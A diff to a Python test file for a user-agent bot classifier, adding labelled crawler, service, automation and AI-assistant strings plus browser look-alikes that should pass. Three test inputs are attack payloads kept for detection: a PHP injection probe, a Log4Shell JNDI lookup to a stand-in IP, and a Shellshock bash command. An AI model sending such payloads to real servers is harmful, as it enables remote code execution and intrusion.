@@ -82,8 +82,69 @@ HTTP = "list:(?<!lib)http"
             "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648",
             "heuristic:http-library",
         ),
-        ("CopperEgg/RevealUptime/Oregon(aws)", "heuristic:no-version"),
+        ("CopperEgg/Reveal/Oregon(aws)", "heuristic:no-version"),
+        # (CopperEgg's real user agent, `CopperEgg/RevealUptime/Oregon(aws)`, names its service)
+        ("CopperEgg/RevealUptime/Oregon(aws)", "heuristic:service"),
         ("Mozilla/4.0 (compatible; grub-client-2.3)", "heuristic:no-os"),
+        # a headless engine, a QtWebKit script (its bare name where a browser's Name/version is)
+        (
+            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
+            "SlimerJS/1.0.0 Safari/538.1",
+            "heuristic:automation",
+        ),
+        (
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) imgsizer "
+            "Safari/537.21",
+            "heuristic:automation",
+        ),
+        # an AI assistant's token appended to a browser's user agent
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/120.0.0.0 Safari/537.36 Perplexity-User/1.0",
+            "heuristic:ai-assistant",
+        ),
+        # words naming a service: translation, debugging, fetching, bookmarking, SEO, screenshots
+        (
+            "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/48.0.2564.97 Safari/537.36 Yandex.Translate",
+            "heuristic:service",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 11.0; moto g power (2022)) AppleWebKit/537.36 (KHTML, "
+            "like Gecko) Chrome/134.0.0.0 Mobile Safari/537.36 DebugBear",
+            "heuristic:service",
+        ),
+        ("Mikrotik/7.x Fetch", "heuristic:service"),
+        ("Hatena::Bookmark/2.00 (Hatena::Bookmark; master;)", "heuristic:service"),
+        (
+            "SEOlizer/1.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1.13) Gecko/20080311 "
+            "Firefox/2.0.0.13",
+            "heuristic:service",
+        ),
+        (
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) "
+            "www.HomepageScreenshot.de - Free ScreenShotService/1.0 Safari/537.21",
+            "heuristic:service",
+        ),
+        # a search engine's bare name appended to a browser's user agent
+        (
+            "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/42.0.2311.152 Safari/537.36 (BingLocalSearch)",
+            "heuristic:service",
+        ),
+        # a crawler's "+URL" comment entry, blank or not a URL
+        ("Mozilla/5.0 (compatible; Acme/0.4; +; )", "heuristic:crawler-comment"),
+        (
+            "Mozilla/5.0 (compatible; Acme/1.0; +acme-adtech; contact via site) AppleWebKit/537.36 "
+            "(KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+            "heuristic:crawler-comment",
+        ),
+        # attack payloads
+        ('Mozilliqa"<?=print(9347655345-4954366);?>"', "heuristic:injection"),
+        ("Mozilla/5.0 (X11) ${jndi:ldap://203.0.113.7:1389/a}", "heuristic:injection"),
+        ("Mozilla/5.0 (X11; Linux) () { :; }; /bin/bash -c id", "heuristic:injection"),
+        # a library's own product token
+        ("VLC/2.2.4 LibVLC/2.2.4", "heuristic:http-library"),
     ],
 )
 def test_bots_and_their_reasons(user_agent, reason):
@@ -131,6 +192,27 @@ def test_bots_and_their_reasons(user_agent, reason):
         "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/87.0.4280.101 Mobile Safari/537.36",
         "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Banca Caboto s.p.a.; rv:11.0) like Gecko",
+        # look-alikes of the heuristics' shapes: a service word in a device model ("Seoul"),
+        # search apps with a version, a bare word appended (TVs, in-app browsers), a QtWebKit
+        # browser with its version and Samsung's TV browser, a "+" entry outside "compatible"
+        "Mozilla/5.0 (Linux; Android 7.0; Seoul 5 Plus) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/83.0.4103.96 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 6.0; PacificE Build/MRA58K; wv) AppleWebKit/537.36 (KHTML, "
+        "like Gecko) Version/4.0 Chrome/86.0.4240.198 Mobile Safari/537.36 YandexSearch/5.45",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+        "Gecko) Version/15.1 Mobile/15E148 Safari/605.1 NAVER(inapp; search; 1000; 11.8.10; 13)",
+        "Mozilla/5.0 (Linux; Android 11; 43LU8030S Build/RP1A.200720.011; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/83.0.4103.120 YaBrowser/23.1.0.39 (lite) "
+        "Safari/537.36 TV",
+        "Mozilla/5.0 (Linux; Android 13; CPH2451 Build/TP1A.220905.001; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/118.0.0.0 Mobile Safari/537.36 TwitterAndroid",
+        "Mozilla/5.0 (X11; Linux i686) AppleWebKit/538.1 (KHTML, like Gecko) QupZilla/1.8.6 "
+        "Safari/538.1",
+        "Mozilla/5.0 (SmartHub; SMART-TV; U; Linux/SmartTV; Maple2012) AppleWebKit/534.7 (KHTML, "
+        "like Gecko) SmartTV Safari/534.7",
+        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/87.0.4280.88 Safari/537.36 HbbTV/1.6.1 (+DRM; LGE; 50QNED816RE; WEBOS23 03.20.23; "
+        "W23_K8HPP; DTV_W23H;)",
     ],
 )
 def test_people_pass(user_agent):
@@ -172,6 +254,13 @@ def test_the_gates_hide_no_match_of_the_list():
         text = user_agent.strip().lower()
         first = next((reason for _, pattern, reason in bots._LIST if pattern.search(text)), "")
         assert bots._list_reason(text) == first, user_agent
+
+
+def test_the_one_search_for_names_hides_no_marker():
+    # classify_user_agent skips the list's gate and the heuristics' markers when _NAMES finds
+    # nothing: every literal of both must be in it.
+    for literal in bots._GATE_LITERALS | bots._MARKER_REASONS.keys():
+        assert bots._NAMES.search(f"mozilla/5.0 {literal} x"), literal
 
 
 def test_the_vendored_list_has_every_pattern_left_out():
